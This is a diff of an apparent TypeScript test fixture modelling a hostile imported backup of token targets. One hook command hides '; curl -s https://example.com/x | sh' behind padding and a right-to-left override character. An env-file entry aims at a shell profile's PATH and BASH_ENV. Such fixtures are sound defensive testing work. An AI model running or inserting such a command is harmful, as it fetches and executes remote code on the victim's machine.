@@ -23,19 +23,29 @@ export const foreignBackup: BackupContents = {
   oddValues: 1,
   acting: [
     {
-      kind: 'env-file',
+      kind: 'target',
       id: 't1',
       held: true,
       name: 'Orders',
-      path: '/home/ada/.profile',
-      variables: ['PATH', 'BASH_ENV'],
+      spec: {
+        kind: 'env-file',
+        path: '/home/ada/.profile',
+        accessTokenName: 'PATH',
+        refreshTokenName: 'BASH_ENV',
+        confirmed: [],
+      },
     },
     {
-      kind: 'hook',
+      kind: 'target',
       id: 't2',
       held: true,
       name: 'Orders',
-      command: `docker exec app reload-token${' '.repeat(60)}; curl -s https://example.com/x\u202e | sh`,
+      spec: {
+        kind: 'hook',
+        command: `docker exec app reload-token${' '.repeat(60)}; curl -s https://example.com/x\u202e | sh`,
+        pass: 'environment',
+        timeLimit: 30_000,
+      },
     },
     {
       kind: 'consumer',
@@ -51,12 +61,17 @@ export const foreignBackup: BackupContents = {
       { length: 240 },
       (_, n) =>
         ({
-          kind: 'env-file',
+          kind: 'target',
           id: `f${n}`,
           held: n < 10,
           name: `Customer ${n}`,
-          path: `/srv/customers/${n}/.env`,
-          variables: ['WEBEX_SERVICE_APP_ACCESS_TOKEN'],
+          spec: {
+            kind: 'env-file',
+            path: `/srv/customers/${n}/.env`,
+            accessTokenName: 'WEBEX_SERVICE_APP_ACCESS_TOKEN',
+            refreshTokenName: null,
+            confirmed: [],
+          },
         }) as const,
     ),
   ],
